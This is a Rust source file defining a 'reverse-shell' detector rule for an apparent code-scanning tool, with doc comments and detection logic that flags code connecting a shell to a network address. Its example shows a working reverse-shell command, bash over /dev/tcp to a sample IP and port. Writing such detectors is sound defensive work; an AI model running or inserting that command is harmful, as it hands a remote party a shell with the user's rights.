//! A shell for somebody else.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::subject::{Findings, Subject};

detector! {
    /// A shell is connected with the network.
    ///
    /// ## What it does
    /// Looks for the usual command lines that give a remote machine a shell, and for functions that
    /// connect to an address of digits and start an interpreter.
    ///
    /// ## Why is this bad?
    /// Whoever is at the other end has the rights of the user.
    ///
    /// ## Example
    /// ```rust
    /// Command::new("bash").args(["-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]).spawn()?;
    /// ```
    ///
    /// ## How to fix it
    /// Remove it. A tool for remote administration offers a protocol that authenticates.
    ReverseShell "reverse-shell" Malice Critical High Stable
}

impl ReverseShell {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let is_shell = |scope: &Scope<'_>| {
            let text = scope.has(Fact::ReverseShell) && scope.has(Fact::Process);
            let code = scope.has(Fact::RawAddress)
                && scope.has(Fact::Shell)
                && scope.of(Fact::Network).any(|evidence| {
                    evidence.detail.contains("TcpStream") || evidence.detail.contains("socket")
                });
            text || code
        };
        for scope in subject.facts().scopes(2, is_shell) {
            let places = scope.places(
                subject,
                &[
                    Fact::ReverseShell,
                    Fact::Network,
                    Fact::RawAddress,
                    Fact::Shell,
                    Fact::Process,
                ],
            );
            let message = format!("{} connects a shell with the network", scope.unit.as_str());
            findings.add(&Self::RULE, message, places);
        }
    }
}
